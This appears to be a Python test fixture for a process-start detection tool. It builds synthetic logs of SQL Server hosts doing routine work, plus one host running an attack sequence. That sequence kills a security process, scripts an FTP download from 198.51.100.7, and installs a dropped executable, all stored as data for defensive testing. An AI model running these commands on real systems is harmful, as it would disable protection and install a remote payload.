"""The words of the tests of the command line: what a call gave, and process starts written by hand."""

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class Done:
    """What one call gave."""

    code: int
    out: str
    err: str


Run = Callable[..., Done]


def start(**given: Any) -> dict[str, Any]:
    """One process start in the plain form."""
    return {
        "time": "2026-03-02T10:00:00Z",
        "host": "db1",
        "account": "NT SERVICE\\MSSQLSERVER",
        "image": "C:\\Windows\\System32\\cmd.exe",
        "command_line": "cmd /c dir",
        "parent_image": "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.A\\MSSQL\\Binn\\sqlservr.exe",
        **given,
    }


def lines(*starts: dict[str, Any]) -> str:
    """Process starts as JSON lines."""
    return "".join(json.dumps(each) + "\n" for each in starts)


SQLSERVR = "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.A\\MSSQL\\Binn\\sqlservr.exe"
EVERYDAY = (
    ("C:\\Windows\\System32\\cmd.exe", "cmd /c dir E:\\backup"),
    ("C:\\Windows\\System32\\cmd.exe", "cmd /c del E:\\backup\\old.bak"),
    ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    (SQLSERVR.replace("sqlservr", "DatabaseMail"), "DatabaseMail.exe -S DB -i 1"),
)
ATTACK = (
    ("C:\\Windows\\System32\\taskkill.exe", "taskkill /im 360rp.exe /f"),
    ("C:\\Windows\\System32\\cmd.exe", "cmd /c echo open 198.51.100.7>So.2"),
    ("C:\\Windows\\System32\\ftp.exe", "ftp -s:So.2"),
    ("C:\\Users\\Public\\Svn.exe", "C:\\Users\\Public\\Svn.exe -install"),
)


def story(hosts: int = 12, days: int = 6) -> list[dict[str, Any]]:
    """SQL Servers that do the same four things every day, and on the last day one that does four others."""
    everyday = [
        start(host=f"db{host}", time=f"2026-03-{day:02}T{hour:02}:00:00Z", image=image, command_line=line)
        for host in range(hosts)
        for day in range(1, days + 1)
        for hour, (image, line) in enumerate(EVERYDAY, 4)
    ]
    attack = [
        start(host="db3", time=f"2026-03-{days:02}T21:0{minute}:00Z", image=image, command_line=line)
        for minute, (image, line) in enumerate(ATTACK)
    ]
    return everyday + attack
